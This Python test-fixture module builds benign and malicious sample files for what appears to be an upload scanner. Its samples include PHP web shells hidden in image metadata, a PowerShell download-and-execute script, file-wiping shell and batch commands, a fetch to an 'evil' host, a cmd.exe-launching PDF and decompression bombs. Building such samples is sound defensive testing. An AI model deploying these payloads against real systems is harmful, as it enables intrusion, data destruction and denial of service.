"""Files of every kind, good and bad, made in memory."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
from PIL import Image, PngImagePlugin


def picture(form: str = "PNG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **save) -> bytes:
    """A small picture with a gradient."""
    ramp = Image.linear_gradient("L").resize(size)
    image = Image.merge("RGB", [ramp, ramp.transpose(Image.Transpose.ROTATE_180), ramp]).convert(mode)
    sink = io.BytesIO()
    image.save(sink, form, **save)
    return sink.getvalue()


def heic() -> bytes:
    """A HEIC of 64 x 64 pixels; kept as a file, since our library only decodes."""
    return (Path(__file__).parent / "tiny.heic").read_bytes()


def animated(form: str, frames: int) -> bytes:
    """An animated picture."""
    shades = [Image.new("RGB", (32, 32), (number * 255 // frames, 0, 90)) for number in range(frames)]
    sink = io.BytesIO()
    shades[0].save(sink, form, save_all=True, append_images=shades[1:])
    return sink.getvalue()


def pdf(*, pages: int = 1, password: str = "", script: bool = False, size: tuple[int, int] = (200, 100), streams: bool = False) -> bytes:
    """A PDF with empty pages."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=size)
    if script:
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    sink = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if streams else pikepdf.ObjectStreamMode.disable
    document.save(sink, encryption=pikepdf.Encryption(user=password, owner="o") if password else False, object_stream_mode=mode)
    return sink.getvalue()


def zipped(*names: str, content: bytes = b"x") -> bytes:
    """A ZIP with entries of these names."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)  # a date of its own: the same bytes each time
    return sink.getvalue()


def pe() -> bytes:
    """The headers of a Windows program."""
    return b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102) + bytes(400)


def elf() -> bytes:
    """The header of a Linux program."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(400)


def macho() -> bytes:
    """The header of a macOS program."""
    return struct.pack("<IIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 1, 24, 0) + bytes(400)


def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG of a few bytes that declares billions of pixels."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def data_bomb() -> bytes:
    """A PNG of 8 x 8 pixels whose picture data unpack to 200 MB."""
    good = picture(size=(8, 8))
    body = zlib.compress(bytes(200_000_000), 9)
    return good[:33] + struct.pack(">I", len(body)) + b"IDAT" + body + struct.pack(">I", zlib.crc32(b"IDAT" + body)) + good[-12:]


def text_bomb() -> bytes:
    """A PNG whose compressed text unpacks to 200 MB."""
    good = picture()
    body = b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9)
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return good[:33] + chunk + good[33:]


def commented_jpeg(comment: bytes) -> bytes:
    """A JPEG with a comment segment."""
    good = picture("JPEG")
    return good[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + good[2:]


def png_with_text(text: str) -> bytes:
    """A PNG with a text chunk."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return picture(pnginfo=info)


def exif_php() -> bytes:
    """A JPEG with PHP in its EXIF."""
    exif = Image.Exif()
    exif[0x010E] = "<?php system($_GET['c']); ?>"
    return picture("JPEG", exif=exif)


def docm() -> bytes:
    """A Word file with macros."""
    return zipped("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")


def locked_zip() -> bytes:
    """A ZIP whose entry says that it is encrypted (bit 0 of the flags, APPNOTE 4.4.4)."""
    data = bytearray(zipped("a.txt"))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def ole(*streams: str) -> bytes:
    """The magic of an OLE file and names of streams, as its directory holds them."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"".join(name.encode("utf-16-le") + bytes(64) for name in streams)


def launching_pdf() -> bytes:
    """A PDF that starts a program, its action's name spelt with an escape."""
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))
    sink = io.BytesIO()
    document.save(sink, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return sink.getvalue().replace(b"/Launch", b"/L#61unch")


def jpeg_bomb() -> bytes:
    """A small JPEG whose frame header declares 65,000 x 65,000 pixels."""
    good = bytearray(picture("JPEG"))
    frame = good.index(b"\xff\xc0")
    good[frame + 5 : frame + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(good)


def thumbnailed_jpeg() -> bytes:
    """A JPEG with another JPEG as thumbnail in an APP1 segment, its end marker before the picture's own."""
    body = b"Exif\0\0" + picture("JPEG", size=(16, 12))
    good = picture("JPEG")
    return good[:2] + b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body + good[2:]


def tarred() -> bytes:
    """A tar with one file."""
    sink = io.BytesIO()
    with tarfile.open(fileobj=sink, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a.txt"))
    return sink.getvalue()


POWERSHELL = b"""param([string]$Url)
$ErrorActionPreference = 'Stop'
$client = New-Object System.Net.WebClient
Invoke-Expression $client.DownloadString($Url)
Get-ChildItem -Path $env:USERPROFILE -Recurse | Where-Object { $_.Length -gt 1MB } | ForEach-Object { Write-Host $_.FullName }
"""
JAVASCRIPT = b"""const fs = require('fs');
function walk(dir) {
  for (const name of fs.readdirSync(dir)) { console.log(name); }
}
module.exports = { walk };
document.addEventListener('click', (event) => { event.preventDefault(); walk('/'); });
"""
SVG_EVENT = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'


def odt() -> bytes:
    """A text document of OpenDocument: its type stands first and unpacked."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office/>")
    return sink.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>fetch('//evil')</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

BAD: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "pe.jpg": (pe, {"file.executable", "file.type_mismatch"}),
    "elf.png": (elf, {"file.executable", "file.type_mismatch"}),
    "macho.png": (macho, {"file.executable", "file.type_mismatch"}),
    "shell.jpg": (lambda: b"#!/bin/sh\nrm -rf /\n", {"file.script", "file.type_mismatch"}),
    "python.txt": (lambda: b"#!/usr/bin/env python3\nimport os\nos.remove('x')\n", {"file.script", "file.type_mismatch"}),
    "page.png": (lambda: HTML, {"file.script", "file.type_mismatch"}),
    "drawing.svg": (lambda: SVG, {"file.script"}),
    "exif.jpg": (exif_php, {"file.script", "file.polyglot"}),
    "comment.jpg": (lambda: commented_jpeg(b"<?php eval($_POST[1]);"), {"file.script", "file.polyglot"}),
    "wasm.png": (lambda: b"\0asm\x01\0\0\0" + bytes(64), {"file.executable", "file.type_mismatch"}),
    "classes.dex": (lambda: b"dex\n035\0" + bytes(104), {"file.executable"}),
    "Main.class": (lambda: b"\xca\xfe\xba\xbe\0\0\0\x41" + bytes(64), {"file.executable"}),
    "script.ps1": (lambda: POWERSHELL, {"file.script"}),
    "script.js": (lambda: JAVASCRIPT, {"file.script"}),
    "run.bat": (lambda: b"@echo off\r\ndel /q C:\\*.*\r\n", {"file.script"}),
    "event.svg": (lambda: SVG_EVENT, {"file.script"}),
    "wide.svg": (lambda: SVG_EVENT.decode().encode("utf-16"), {"file.script"}),
    "php.png": (lambda: png_with_text("<?php phpinfo(); ?>"), {"file.script", "file.polyglot"}),
    "files.tar": (tarred, {"file.archive"}),
    "files.tgz": (lambda: gzip.compress(tarred(), mtime=0), {"file.archive"}),
    "files.7z": (lambda: b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(40), {"file.archive"}),
    "locked.zip": (locked_zip, {"file.archive", "file.encrypted"}),
    "locked.xls": (lambda: ole("EncryptionInfo", "EncryptedPackage"), {"file.encrypted", "file.type_not_allowed"}),
    "macros.xls": (lambda: ole("_VBA_PROJECT"), {"file.macro", "file.type_not_allowed"}),
    "launch.pdf": (launching_pdf, {"file.macro"}),
    "gif-js.gif": (lambda: b"GIF89a=1;\n" + JAVASCRIPT * 4, {"file.polyglot"}),
    "jpeg-rar.jpg": (lambda: picture("JPEG") + b"\0\1\2" + b"Rar!\x1a\x07\x01\x00" + bytes(100), {"file.polyglot"}),
    "heic-php.heic": (lambda: heic() + b"<?php phpinfo(); ?>", {"file.polyglot", "file.script"}),
    "pixels.jpg": (jpeg_bomb, {"file.bomb"}),
    "archive.zip": (lambda: zipped("a.txt"), {"file.archive"}),
    "app.jar": (lambda: zipped("META-INF/MANIFEST.MF", "A.class"), {"file.executable"}),
    "rar.png": (lambda: b"Rar!\x1a\x07\x01\x00" + bytes(100), {"file.archive", "file.type_mismatch"}),
    "gifar.gif": (lambda: picture("GIF") + zipped("META-INF/MANIFEST.MF", "A.class"), {"file.polyglot"}),
    "jpeg-zip.jpg": (lambda: picture("JPEG") + zipped("payload.exe"), {"file.polyglot"}),
    "pdf-zip.pdf": (lambda: pdf() + zipped("payload.exe"), {"file.polyglot"}),
    "png-html.png": (lambda: picture() + HTML, {"file.polyglot", "file.script"}),
    "png-text-html.png": (lambda: png_with_text(HTML.decode()), {"file.polyglot", "file.script"}),
    "jpeg-pdf.jpg": (lambda: commented_jpeg(b"%PDF-1.4\n") + b"\ntrailer\n%%EOF", {"file.polyglot"}),
    "png-pe.png": (lambda: picture() + pe(), {"file.polyglot"}),
    "bmp-sh.bmp": (lambda: picture("BMP") + b"#!/bin/sh\nid\n", {"file.polyglot"}),
    "pixels.png": (png_bomb, {"file.bomb"}),
    "data.png": (data_bomb, {"file.bomb"}),
    "text.png": (text_bomb, {"file.bomb"}),
    "zip.zip": (lambda: zipped("zeros", content=bytes(120_000_000)), {"file.bomb", "file.archive"}),
    "truncated.png": (lambda: picture(size=(300, 200))[:-300], {"file.corrupt"}),
    "truncated.jpg": (lambda: picture("JPEG", size=(300, 200))[:-800], {"file.corrupt"}),
    "truncated.pdf": (lambda: pdf()[:120], {"file.corrupt"}),
    "empty.png": (bytes, {"file.corrupt"}),
    "locked.pdf": (lambda: pdf(password="secret"), {"file.encrypted"}),
    "script.pdf": (lambda: pdf(script=True), {"file.macro"}),
    "hidden-script.pdf": (lambda: pdf(script=True, streams=True), {"file.macro"}),
    "macros.docx": (docm, {"file.macro", "file.type_not_allowed"}),
    "large.png": (lambda: picture() + bytes(21_000_000), {"file.too_large"}),
    "photo.png": (lambda: picture("JPEG"), {"file.type_mismatch"}),
    "notes.txt": ("今天的天气很好，我们去公园。\n".encode, {"file.type_not_allowed"}),
    "song.mp3": (lambda: b"ID3\x04" + bytes(200), {"file.type_not_allowed"}),
}
"""Name to what makes it, and the labels it must have (`file.type_not_allowed` may stand beside any that is no picture)."""

GOOD: dict[str, Callable[[], bytes]] = {
    "a.png": picture,
    "b.jpg": lambda: picture("JPEG"),
    "b.jpeg": lambda: picture("JPEG", mode="L"),
    "cmyk.jpg": lambda: picture("JPEG", mode="CMYK"),
    "deep.png": lambda: picture(mode="I;16"),
    "palette.png": lambda: picture(mode="P"),
    "c.webp": lambda: picture("WEBP"),
    "d.gif": lambda: picture("GIF", mode="P"),
    "e.bmp": lambda: picture("BMP"),
    "f.tif": lambda: picture("TIFF"),
    "g.heic": heic,
    "thumbnail.jpg": thumbnailed_jpeg,
    "junk.pdf": lambda: b"\xef\xbb\xbf\r\n" + pdf(),
    "chance.pdf": lambda: pdf() + b"% /JS( /XFA[ <?\n%%EOF\n",
    "g.avif": lambda: picture("AVIF"),
    "h.pdf": pdf,
    "moving.gif": lambda: animated("GIF", 30),
    "moving.webp": lambda: animated("WEBP", 30),
    "moving.png": lambda: animated("PNG", 30),
    "two-jpegs.jpg": lambda: picture("JPEG") + picture("JPEG", size=(16, 12)),
    "padded.jpg": lambda: picture("JPEG") + bytes(4096),
    "motion.jpg": lambda: picture("JPEG") + b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(2000),
    "samsung.jpg": lambda: picture("JPEG") + b"\0\0\x01\x0a\x0e\0\0\0Image_UTC_Data1700000000000SEFHk\0\0\0SEFT",
    "xmp.png": lambda: png_with_text('<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/>'),
    "words.png": lambda: png_with_text("the head of the body is 5 < 6, scripted by hand"),
    "newline.pdf": lambda: pdf() + b"\n\n",
    "updated.pdf": lambda: pdf(pages=3, streams=True),
}
"""Names of files that nothing is wrong with."""


def bad_files(folder: Path) -> dict[str, set[str]]:
    """Write one bad file of each kind into `folder`; name to the labels it must have."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, (make, _) in BAD.items():
        (folder / name).write_bytes(make())
    return {name: labels for name, (_, labels) in BAD.items()}
